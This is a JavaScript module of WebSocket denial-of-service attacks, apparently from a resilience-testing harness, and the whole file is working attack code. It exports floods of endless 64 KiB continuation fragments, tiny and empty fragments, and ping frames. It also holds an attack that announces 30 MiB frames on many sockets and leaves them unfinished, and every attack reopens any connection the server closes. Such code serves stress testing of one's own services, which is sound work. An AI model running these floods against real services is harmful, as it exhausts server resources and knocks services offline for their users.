// Attacks with the frames of WebSockets.
import { frame } from "./attacker.mjs";

const CONTINUED = 0;
const TEXT = 1;
const PING = 9;

/** Floods `count` WebSockets, and opens another for each that the service closes. */
async function floodSockets(attacker, count, { first, next, counter }) {
  const open = async () => {
    const socket = await attacker.openSocket({ onClosed: () => void open() });
    if (first) socket.write(first);
    await attacker.flood(socket, () => {
      attacker.count(counter);
      return next;
    });
  };
  await attacker.times(count, async () => void open());
}

const beginning = frame("x", { opcode: TEXT, fin: false });

export const endlessFragments = (attacker) =>
  floodSockets(attacker, 20, {
    first: beginning,
    next: frame(Buffer.alloc(65_536, "x"), { opcode: CONTINUED, fin: false }),
    counter: "fragments of 64 KiB",
  });

export const tinyFragments = (attacker) =>
  floodSockets(attacker, 20, {
    first: beginning,
    next: Buffer.concat(Array(1_000).fill(frame("x", { opcode: CONTINUED, fin: false }))),
    counter: "thousand fragments of a byte",
  });

export const emptyFragments = (attacker) =>
  floodSockets(attacker, 20, {
    first: beginning,
    next: Buffer.concat(Array(1_000).fill(frame("", { opcode: CONTINUED, fin: false }))),
    counter: "thousand empty fragments",
  });

export const pings = (attacker) =>
  floodSockets(attacker, 20, {
    next: Buffer.concat(Array(100).fill(frame("x".repeat(125), { opcode: PING }))),
    counter: "hundred pings",
  });

/** Sends one frame of 30 MiB, without its end, on each of many WebSockets. */
export async function heldFrames(attacker) {
  const part = Buffer.alloc(65_536, "x");
  const open = async () => {
    const socket = await attacker.openSocket({ onClosed: () => void open() });
    socket.write(frame("", { length: 30 * 2 ** 20 }));
    await attacker.pour(socket, part, 29 * 2 ** 20);
  };
  await attacker.times(50, async () => void open());
}
